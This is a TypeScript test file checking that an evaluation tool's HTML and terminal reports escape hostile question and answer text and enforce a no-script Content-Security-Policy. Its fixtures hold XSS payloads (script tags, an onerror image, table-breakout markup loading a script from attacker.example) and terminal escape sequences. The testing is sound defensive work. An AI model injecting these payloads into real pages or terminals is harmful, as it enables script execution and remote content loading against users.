// Questions and model answers are text from a file and from models, and stay text wherever the report
// shows them: escaped in the HTML report, whose Content-Security-Policy forbids any script and any fetch
// (its one style sheet allowed by its hash), and stripped of escape sequences in the terminal.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { describe, it } from "node:test";
import picocolors from "picocolors";
import { evaluationReportText } from "../../src/cli/terminal/render-evaluation.ts";
import type { EvaluationReport, EvaluationRunSummary } from "../../src/contract/evaluation.ts";
import { evaluationReport } from "../../src/evaluation/report/evaluation-report.ts";
import { evaluationReportHtml } from "../../src/evaluation/report/html-report.ts";
import { questionResults } from "../../src/evaluation/report/question-results.ts";
import type { EvaluationAnswerRecord, EvaluationQuestionRecord } from "../../src/store/evaluations.ts";

const script = "<script>alert('question')</script>";
const image = `<img src=x onerror="alert('choice')">`;
const answerMarkup = `</td></tr></table><script src="https://attacker.example/x.js"></script><iframe src="https://attacker.example"></iframe>`;
const escapes =
  "\u001b]0;window title\u0007\u001b[2J\u001b]8;;https://attacker.example\u001b\\link\u001b]8;;\u001b\\";

const run: EvaluationRunSummary = {
  id: "run-hostile",
  createdAt: "2026-01-01T00:00:00.000Z",
  status: "finished",
  questionSet: { name: `${image}.jsonl`, questions: 1 },
  strategies: ["best-single", "council"],
  bestModel: "alpha",
  samples: 3,
  panel: ["alpha", "beta"],
  judges: [],
  maxCostUsd: null,
  spentUsd: 0,
};

const questions: EvaluationQuestionRecord[] = [
  {
    id: `q-${image}`,
    question: `${script} ${escapes} Which one?`,
    choices: [image, `B ${escapes}`],
    answer: "A",
    tags: [],
  },
];

const answer = (strategy: EvaluationAnswerRecord["strategy"], text: string): EvaluationAnswerRecord => ({
  questionId: questions[0]?.id ?? "",
  strategy,
  answer: text,
  correct: strategy === "council",
  extracted: text,
  costUsd: 0,
  latencyMs: 1,
});

const results = {
  answers: [answer("best-single", `${escapes}${answerMarkup}`), answer("council", `${script}${image}`)],
  modelAnswers: [],
  judgements: [],
};

const report: EvaluationReport = {
  ...evaluationReport(run, [questions[0]?.id ?? ""], results),
  questions: questionResults(questions, ["best-single", "council"], results),
};

describe("hostile questions and answers in an evaluation's report", () => {
  it("are escaped in the HTML report: no element of theirs reaches the page", () => {
    const html = evaluationReportHtml(report);
    assert.doesNotMatch(html, /<(script|img|iframe)\b/i);
    assert.match(html, /&lt;script&gt;alert\(&#39;question&#39;\)&lt;\/script&gt;/);
    assert.match(html, /&lt;img src=x onerror=&quot;alert\(&#39;choice&#39;\)&quot;&gt;/);
    assert.match(html, /&lt;\/td&gt;&lt;\/tr&gt;&lt;\/table&gt;/);
  });

  it("come with a Content-Security-Policy that allows no script and no fetch, and the style by its hash", () => {
    const html = evaluationReportHtml(report);
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1];
    assert.ok(policy, "the page carries its policy");
    // The policy comes before anything it governs.
    assert.ok(html.indexOf("Content-Security-Policy") < html.indexOf("<style>"));
    const directives = new Map(
      policy.split(";").map((directive) => {
        const [name = "", ...sources] = directive.trim().split(/\s+/);
        return [name, sources] as const;
      }),
    );
    assert.deepEqual(directives.get("default-src"), ["'none'"]);
    assert.deepEqual(directives.get("script-src"), ["'none'"]);
    assert.deepEqual(directives.get("base-uri"), ["'none'"]);
    assert.deepEqual(directives.get("form-action"), ["'none'"]);
    assert.doesNotMatch(policy, /https?:|\*|'unsafe-inline'|'unsafe-eval'|'strict-dynamic'/);
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? "";
    const hash = createHash("sha256").update(style).digest("base64");
    assert.deepEqual(directives.get("style-src"), [`'sha256-${hash}'`]);
  });

  it("lose their escape sequences in the terminal", () => {
    const plain = { colors: picocolors.createColors(false), colored: false, live: false, width: 100 };
    const text = evaluationReportText(report, plain);
    assert.ok(!text.includes("\u001b") && !text.includes("\u0007"), "no escape sequence is left");
    assert.match(text, /<script>alert\('question'\)<\/script> .*Which one\?/);
    assert.match(
      text,
      /council\s+<script>alert\('question'\)<\/script><img src=x onerror="alert\('choice'\)"> · right · fixed/,
    );
  });
});
